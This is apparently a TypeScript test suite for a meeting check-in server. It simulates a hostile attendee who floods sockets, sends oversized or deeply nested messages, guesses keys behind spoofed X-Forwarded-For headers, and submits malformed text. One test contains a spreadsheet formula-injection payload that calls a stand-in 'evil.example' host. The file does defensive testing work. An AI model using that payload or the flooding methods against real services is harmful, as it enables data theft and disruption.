import { randomUUID } from 'node:crypto';
import { io as connectSocket } from 'socket.io-client';
import { afterEach, describe, expect, it } from 'vitest';
import { ALLOWANCES, NEW_CONNECTION_MS } from '../../server/assemblies/rateLimits';
import { valuesOf } from '../../shared/domain/register';
import { namedTotal } from '../../shared/domain/turnout';
import type { CommandReply } from '../../shared/protocol/socket';
import { PROTOCOL_VERSION } from '../../shared/protocol/version';
import { expectEvictedIntact } from './eviction';
import { checkIn, MirrorClient, post, SMALL_SETUP, startAssembly, type TestSocket, waitFor } from './harness';

// One person in the room who wants the night to fail: each way found to stall, skew or
// poison it, and what must hold instead.

type Assembly = Awaited<ReturnType<typeof startAssembly>>;
let assembly: Assembly;
afterEach(() => assembly?.close());

/** A raw socket as a script would open one: no mirror, no reconnection. */
function rawSocket(url: string, auth: Record<string, unknown>, headers: Record<string, string> = {}) {
  return connectSocket(url, {
    auth: { v: PROTOCOL_VERSION, ...auth },
    transports: ['websocket'],
    reconnection: false,
    forceNew: true,
    extraHeaders: headers,
  }) as TestSocket;
}

const connected = (socket: TestSocket) =>
  new Promise<void>((resolve, reject) => {
    socket.on('connect', () => resolve());
    socket.on('connect_error', reject);
  });

describe('a hostile room', () => {
  it('an import with thousands of long unknown names does not hold up the chair', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    const long = (i: number) => `Institution ${i} ${'with a very long name indeed '.repeat(6)}`.slice(0, 200);
    const institutions = Array.from({ length: 2000 }, (_, i) => ({
      id: `i${i}`,
      name: long(i),
      committed: 1,
    }));
    expect(
      (
        await post(
          `${server.url}/api/assemblies/${created.code}/import`,
          { ...SMALL_SETUP, institutions },
          created.keys.admin,
        )
      ).status,
    ).toBe(200);
    const chair = await assembly.open(created.keys.chair);
    // 4,000 rows naming institutions that are not there: each needs a "did you mean".
    const rows = Array.from(
      { length: 4000 },
      (_, i) => `Person ${i},Unknown ${i} ${'long name '.repeat(18)}`,
    );
    const finished: string[] = [];
    const importing = fetch(`${server.url}/api/assemblies/${created.code}/registrants`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${created.keys.admin}` },
      body: ['name,institution', ...rows].join('\n'),
    }).then(async (response) => {
      finished.push('import');
      return { status: response.status, json: await response.json() };
    });
    // Sent while the import is being checked: answered in between, not after it.
    await new Promise((resolve) => setTimeout(resolve, 30));
    const press = chair.command({ type: 'nextItem', fromItemId: null }).then((reply) => {
      finished.push('chair');
      return reply;
    });
    expect(await press).toMatchObject({ ok: true });
    const imported = await importing;
    expect(finished).toEqual(['chair', 'import']);
    expect(imported.status).toBe(400);
    expect(imported.json.problems[0]).toMatch(/^row 2: institution 'Unknown 0 .*' not found/);
    expect(imported.json.problems).toHaveLength(20);
  });

  it('half a character is repaired in text and refused elsewhere, never stored', async () => {
    assembly = await startAssembly();
    const { created } = assembly;
    const door = await assembly.open(created.keys.door);
    const screen = await assembly.open();
    // The door's own label cut an emoji in half: the check-in still counts, the half goes.
    expect(await door.command(checkIn('Amal \ud83d', { device: 'North door \ud83d' }))).toMatchObject({
      ok: true,
    });
    await waitFor(() => namedTotal(screen.state.turnout) === 1);
    const [made] = valuesOf(door.state.attendance.checkIns);
    expect(made).toMatchObject({ name: 'Amal', device: 'North door' });
    const ticket = await door.command({ type: 'scanTicket', checkInId: randomUUID(), ticket: 'T-\udc00' });
    expect(ticket).toMatchObject({ ok: false, code: 'invalid_command' });
    if (!ticket.ok) expect(ticket.message).toMatch(/half a character/);
  });

  it('a line break in a name is refused; a cell a spreadsheet reads as a formula is escaped', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    const phone = await assembly.open();
    const refused = await phone.command(checkIn('=HYPERLINK(\n"https://evil.example/?"&G2,"x")'));
    expect(refused).toMatchObject({ ok: false, code: 'invalid_command' });
    if (!refused.ok) expect(refused.message).toMatch(/one line/);
    expect(await phone.command(checkIn('=1+1'))).toMatchObject({ ok: true });
    const csv = await (
      await fetch(`${server.url}/api/assemblies/${created.code}/export/attendees.csv`, {
        headers: { authorization: `Bearer ${created.keys.admin}` },
      })
    ).text();
    expect(csv).toContain("'=1+1");
    expect(csv).not.toContain('HYPERLINK');
  });

  it('one phone checks in a family, not a crowd; other phones from the same address go on', async () => {
    assembly = await startAssembly();
    const { created } = assembly;
    const script = await assembly.open();
    const replies: CommandReply[] = [];
    for (let i = 0; i < ALLOWANCES.checkInsPerPhone.points + 5; i++)
      replies.push(await script.command(checkIn(`Fake ${i}`)));
    const accepted = replies.filter((r) => r.ok).length;
    expect(accepted).toBe(ALLOWANCES.checkInsPerPhone.points);
    // Said so on the phone, not queued to retry: a steward can check in the rest.
    expect(replies.at(-1)).toMatchObject({ ok: false, code: 'phone_limit_reached' });
    const honest = await assembly.open();
    expect(await honest.command(checkIn('Grace Obi'))).toMatchObject({ ok: true });
    const door = await assembly.open(created.keys.door);
    expect(await door.command(checkIn('At the door'))).toMatchObject({ ok: true });
  });

  it('garbage does not use up the venue address; a socket flooding it is closed', async () => {
    // The server's clock, moved on below to age the honest phones' connections.
    let later = 0;
    assembly = await startAssembly(undefined, { now: () => Date.now() + later });
    const { server, created } = assembly;
    // More malformed commands from one address than its public allowance, spread over
    // sockets so that each stays inside its own allowance of messages.
    const perSocket = ALLOWANCES.eventsPerPublicSocket.points - 5;
    const sockets = Math.ceil((ALLOWANCES.publicCommandsPerAddress.points * 1.5) / perSocket);
    for (let s = 0; s < sockets; s++) {
      const socket = rawSocket(server.url, { code: created.code });
      await connected(socket);
      const answers = await Promise.all(
        Array.from({ length: perSocket }, () =>
          socket.timeout(5_000).emitWithAck('command', { type: 'checkIn', name: 42 } as never),
        ),
      );
      expect(answers.every((a) => !a.ok && a.code === 'invalid_command')).toBe(true);
      socket.disconnect();
    }
    const honest = await assembly.open();
    expect(await honest.command(checkIn('Grace Obi'))).toMatchObject({ ok: true });

    // One socket sending as fast as it can: refused, then closed.
    const flood = rawSocket(server.url, { code: created.code });
    await connected(flood);
    let closed = false;
    flood.on('disconnect', () => {
      closed = true;
    });
    // Answered within the allowance; past it refused; past twice the allowance, closed.
    const answers: unknown[] = [];
    for (let i = 0; i < ALLOWANCES.eventsPerPublicSocket.points * 3 && !closed; i++)
      flood.emit('clock', (answer: unknown) => answers.push(answer));
    await waitFor(() => closed, 5_000, 'the flooding socket to be closed');
    // Straight after a flood from this address, a brand-new connection waits a moment before
    // it may check anyone in (a flooder coming straight back); the door is not affected.
    const brandNew = await assembly.open();
    expect(await brandNew.command(checkIn('Just Arrived'))).toMatchObject({
      ok: false,
      code: 'rate_limited',
    });
    expect(await (await assembly.open(created.keys.door)).command(checkIn('At the door'))).toMatchObject({
      ok: true,
    });
    later = NEW_CONNECTION_MS;
    // (Answers still being written when it closed are lost with it.)
    expect(answers.filter((a) => typeof a === 'number').length).toBeLessThanOrEqual(
      ALLOWANCES.eventsPerPublicSocket.points,
    );
    expect(await honest.command(checkIn('Yusef Hasan'))).toMatchObject({ ok: true });
    expect(await brandNew.command(checkIn('Just Arrived'))).toMatchObject({ ok: true });
  });

  it('syncs are limited per socket; a big message closes only its own connection', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    const socket = rawSocket(server.url, { code: created.code });
    await connected(socket);
    const codes: string[] = [];
    for (let i = 0; i < ALLOWANCES.syncsPerSocket.points + 3; i++) {
      const reply = await socket.timeout(5_000).emitWithAck('sync', { epoch: null, seq: 0 });
      codes.push(reply.ok ? 'ok' : reply.code);
    }
    expect(codes.filter((c) => c === 'ok')).toHaveLength(ALLOWANCES.syncsPerSocket.points);
    expect(codes.at(-1)).toBe('rate_limited');
    // Over the socket's message size (setups travel over HTTP): that socket is closed, nothing else.
    const big = rawSocket(server.url, { code: created.code });
    await connected(big);
    let reason = '';
    big.on('disconnect', (why) => {
      reason = why;
    });
    big.emit('command', checkIn('x'.repeat(100 * 1024)) as never, () => {});
    await waitFor(() => reason !== '', 5_000, 'the oversized socket to close');
    expect(reason).toBe('transport close');
    expect((await socket.timeout(5_000).emitWithAck('clock')) as unknown as number).toBeGreaterThan(0);
    socket.disconnect();
  });

  it('a command type that is not text gets a coded refusal, by socket and by HTTP', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    const chair = await assembly.open(created.keys.chair);
    const deep: unknown[] = [];
    let inner = deep;
    for (let i = 0; i < 2000; i++) {
      const next: unknown[] = [];
      inner.push(next);
      inner = next;
    }
    for (const type of [deep, { toString: 1 }, { toString: { toString: 2 } }, null, 17]) {
      expect(await chair.command({ type } as never)).toMatchObject({ ok: false, code: 'unknown_command' });
      expect(
        await post(`${server.url}/api/assemblies/${created.code}/commands`, { type }, created.keys.chair),
      ).toMatchObject({ status: 400, json: { code: 'unknown_command' } });
    }
  });

  it('wrong keys count against the real client, whatever it writes in X-Forwarded-For', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    // The proxy (here: loopback) appends the address it saw; the hops before are the client's.
    const from = (i: number) => ({ 'x-forwarded-for': `10.9.8.${i}, 203.0.113.7` });
    const refusals: string[] = [];
    for (let i = 0; i < ALLOWANCES.wrongKeys.points + 1; i++) {
      const socket = rawSocket(server.url, { code: created.code, key: `guess-${i}` }, from(i));
      refusals.push(
        await new Promise<string>((resolve) => {
          socket.on('connect_error', (error) =>
            resolve((error as Error & { data?: { code?: string } }).data?.code ?? 'none'),
          );
          socket.on('connect', () => resolve('accepted'));
        }),
      );
      socket.disconnect();
    }
    expect(refusals.slice(0, ALLOWANCES.wrongKeys.points).every((c) => c === 'bad_key')).toBe(true);
    expect(refusals.at(-1)).toBe('rate_limited');
    // The same client over HTTP is the same address: still blocked.
    const response = await fetch(`${server.url}/api/assemblies/${created.code}/commands`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: 'Bearer guess-http',
        'x-forwarded-for': 'someone-else, 203.0.113.7',
      },
      body: JSON.stringify({ type: 'undo' }),
    });
    expect(response.status).toBe(429);
    // Another client behind the same proxy is not.
    const other = new MirrorClient(server.url, { code: created.code, key: created.keys.chair });
    await other.ready();
    other.close();
  });

  it('staff state is never cached; a duplicate whose setup is refused leaves no assembly', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    const response = await fetch(`${server.url}/api/assemblies/${created.code}`, {
      headers: { authorization: `Bearer ${created.keys.admin}` },
    });
    expect(response.headers.get('cache-control')).toBe('no-store');
    // The whole state over HTTP without a key: a few a minute per address, not a flood.
    const statuses: number[] = [];
    for (let i = 0; i < ALLOWANCES.publicStateReadsPerAddress.points + 2; i++)
      statuses.push((await fetch(`${server.url}/api/assemblies/${created.code}`)).status);
    expect(statuses.filter((status) => status === 200)).toHaveLength(
      ALLOWANCES.publicStateReadsPerAddress.points,
    );
    expect(statuses.at(-1)).toBe(429);
    const before = (await server.store.listAssemblies()).length;
    const made = await server.app.host.createWithSetup({ title: 'Next year', venue: '' } as never, {
      agenda: [{ id: 'x', kind: 'nonsense', title: 'Bad', minutes: 1 }],
    });
    expect(made).toMatchObject({ ok: false, code: 'invalid_command' });
    expect(await server.store.listAssemblies()).toHaveLength(before);
  });

  it('an idle assembly is let go from memory and comes back intact', async () => {
    assembly = await startAssembly();
    const { server, created } = assembly;
    await expectEvictedIntact(server.url, server.app.host, created);
  });
});
